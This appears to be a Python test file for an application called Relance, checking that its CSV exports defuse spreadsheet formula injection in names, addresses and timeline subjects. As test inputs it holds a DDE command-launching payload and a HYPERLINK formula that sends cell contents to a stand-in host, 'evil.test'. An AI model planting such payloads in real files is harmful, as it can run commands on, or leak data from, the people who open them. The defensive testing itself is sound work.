"""The CSV files Relance writes carry no formula: a name or a subject that came in with an
import or an e-mail (``=cmd|' /C calc'!A0``) opens in a spreadsheet as the text it is."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

from hypothesis import given
from hypothesis import strategies as st

from relance.documents.handover import timeline_csv
from relance.documents.printing import Batch
from relance.lib import csvcells

ATTACK = "=cmd|' /C calc'!A0"
PARIS = ZoneInfo("Europe/Paris")


def test_the_printers_list_writes_an_imported_formula_as_text():
    row = {"rank": 1, "customer": "C-1", "name": ATTACK, "address": "@SUM(1+1)*cmd|' /C calc'!A0",
           "postcode": "75011", "country": "FR", "template": "first_reminder",
           "registered": "no", "pages": 2, "letter": 7}  # fmt: skip

    [written] = csv.DictReader(io.StringIO(Batch(None, b"", [row]).list_csv()))

    assert (written["name"], written["address"]) == ("'" + ATTACK, "'@SUM(1+1)*cmd|' /C calc'!A0")
    assert (written["rank"], written["postcode"], written["pages"]) == ("1", "75011", "2")


def test_the_timeline_writes_a_formula_subject_as_text():
    rows = [{"at": datetime(2026, 11, 9, 8, 15, tzinfo=PARIS), "kind": "communication.sent",
             "channel": "email", "summary": '=HYPERLINK("https://evil.test/?"&A1)',
             "invoices": ["-F1", "F2"]}]  # fmt: skip

    [written] = csv.DictReader(io.StringIO(timeline_csv(rows).decode()))

    assert written["summary"] == '\'=HYPERLINK("https://evil.test/?"&A1)'
    assert written["invoices"] == "'-F1 F2"
    assert written["date"] == "2026-11-09"


@given(st.text())
def test_no_cell_written_starts_a_formula_unless_it_is_a_number(text):
    written = csvcells.cell(text)
    assert written in (text, "'" + text)
    if written[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(written.replace(",", "."))  # a plain number: no formula
